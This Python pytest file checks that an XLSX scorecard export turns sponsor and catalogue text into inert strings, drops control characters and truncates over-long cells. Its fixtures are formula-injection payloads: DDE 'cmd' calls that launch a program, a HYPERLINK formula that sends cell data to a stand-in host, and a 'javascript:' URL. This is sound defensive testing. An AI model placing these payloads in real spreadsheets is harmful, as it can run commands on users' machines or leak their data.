"""Text from sponsors and from the catalogue in a scorecard: never a formula, and nothing that breaks the file."""

from dataclasses import replace
from typing import Any
from xml.etree import ElementTree as ET

import pytest

from selector.assessment.record import Record
from selector.documents.brand import PLAIN
from selector.documents.scorecard import scorecard_xlsx
from selector.shortlist.result import Evidence, Match, Ranked
from tests.documents.reports import SPLIT
from tests.documents.scorecards import FIRST, SPREADSHEET, STAMP, card_of, few, opened, parts

SCORECARD = 2
HOSTILE = (
    "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "#REF!",
)  # fmt: skip
CONTROL = "A\x00B\x08C\x0bD\x1fE\ufffeF\uffffG\nH"


def cells(content: bytes, sheet: int) -> Any:
    """The cells of a sheet as XML, by their place."""
    tree = ET.fromstring(parts(content)[f"xl/worksheets/sheet{sheet}.xml"])  # noqa: S314 (we wrote it)
    return {cell.get("r"): cell for cell in tree.iter(f"{SPREADSHEET}c")}


def changed_evidence(record: Record, **changes: Any) -> Record:
    """The record with the best claim of its leader changed."""
    listed = record.result.shortlist
    leader = listed.ranking[0]
    place = next(place for place, match in enumerate(leader.matches) if match.evidence)
    matches = [*leader.matches]
    matches[place] = _with(matches[place], changes)
    return _led_by(record, replace(leader, matches=tuple(matches)))


def _with(match: Match, changes: dict[str, Any]) -> Match:
    assert isinstance(match.evidence, Evidence)
    return replace(match, evidence=replace(match.evidence, **changes))


def _led_by(record: Record, leader: Ranked) -> Record:
    shortlist = replace(record.result.shortlist, ranking=(leader, *record.result.shortlist.ranking[1:]))
    return replace(record, result=replace(record.result, shortlist=shortlist))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula(text: str) -> None:
    record = changed_evidence(few(SPLIT, text), title=text, url="javascript:alert(1)")
    content = scorecard_xlsx(card_of(record, text), replace(PLAIN, name=text, footer=text), STAMP)
    found = {sheet: cells(content, sheet) for sheet in range(1, 6)}
    assert [
        sheet for sheet, known in found.items() if any(c.find(f"{SPREADSHEET}f") is not None for c in known.values())
    ] == [SCORECARD]
    formulas = [cell.findtext(f"{SPREADSHEET}f") for cell in found[SCORECARD].values()]
    assert not any(formula and ("cmd" in formula or "HYPER" in formula) for formula in formulas)
    name = found[SCORECARD][f"B{FIRST}"]
    assert name.get("t") == "inlineStr"
    assert b"javascript:" not in b"".join(parts(content).values())


@pytest.mark.parametrize("text", HOSTILE[:8])
def test_it_marks_what_looks_like_a_formula_as_text_for_good(text: str) -> None:
    book = opened(scorecard_xlsx(card_of(few(SPLIT, text), text), PLAIN, STAMP))
    for cell in (book["Scorecard"][f"B{FIRST}"], book["Requirements"]["B6"], book["Summary"]["A2"]):
        assert cell.quotePrefix
        assert cell.data_type == "s"
    assert not book["Scorecard"][f"B{FIRST + 1}"].quotePrefix


def test_it_survives_what_xml_cannot_hold() -> None:
    record = changed_evidence(few(SPLIT, CONTROL), title=CONTROL, url="https://example.org/\x0b?a=1&b=2")
    content = scorecard_xlsx(card_of(record, f"{CONTROL} & <b>"), replace(PLAIN, name=CONTROL), STAMP)
    for name, part in parts(content).items():
        if name.endswith((".xml", ".rels")):
            ET.fromstring(part)  # noqa: S314 (we wrote it)
    assert opened(content)["Scorecard"][f"B{FIRST}"].value == "ABCDEFG\nH"


def test_it_cuts_what_no_cell_can_hold() -> None:
    long, wide = "x" * 40_000, "\U0001f9ea" * 20_000
    book = opened(scorecard_xlsx(card_of(few(SPLIT, long, wide)), PLAIN, STAMP))
    first, second = (str(book["Scorecard"][f"B{row}"].value) for row in (FIRST, FIRST + 1))
    assert (len(first), first[-2:]) == (32_767, "x…")
    assert (len(second.encode("utf-16-le")) // 2, second[-2:]) == (32_767, "\U0001f9ea…")
